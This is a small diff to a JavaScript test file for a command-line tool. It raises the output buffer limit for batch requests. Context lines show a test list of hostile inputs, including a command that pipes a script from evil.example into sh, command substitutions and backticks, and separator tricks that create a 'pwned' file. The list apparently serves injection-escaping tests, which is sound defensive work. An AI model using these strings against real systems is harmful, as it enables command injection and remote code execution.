@@ -15,7 +15,8 @@ const cli = process.env.RUNWELL_CLI ?? join(root, 'build/core/runwell');
 const HOSTILE = ['q; curl -s http://evil.example/y.sh | sh; #', 'a|b', '$(touch pwned)', '`touch pwned`', 'x\ntouch pwned',
   "it's", '"q"', 'a b', '--rm', '..', '\uFF1Btouch pwned', 'a&&touch pwned', 'a>pwned', '\u001b[31m'];
 
-const batch = (requests) => execFileSync(cli, ['batch'], { input: requests.map((r) => JSON.stringify(r)).join('\n') })
+// 72 full answers are over a megabyte: node's default output buffer (1 MiB) is too small for them.
+const batch = (requests) => execFileSync(cli, ['batch'], { input: requests.map((r) => JSON.stringify(r)).join('\n'), maxBuffer: 64 << 20 })
   .toString().trim().split('\n').map((l) => JSON.parse(l));
 
 // What /bin/sh passes as arguments for one line: the line's words handed to a function that
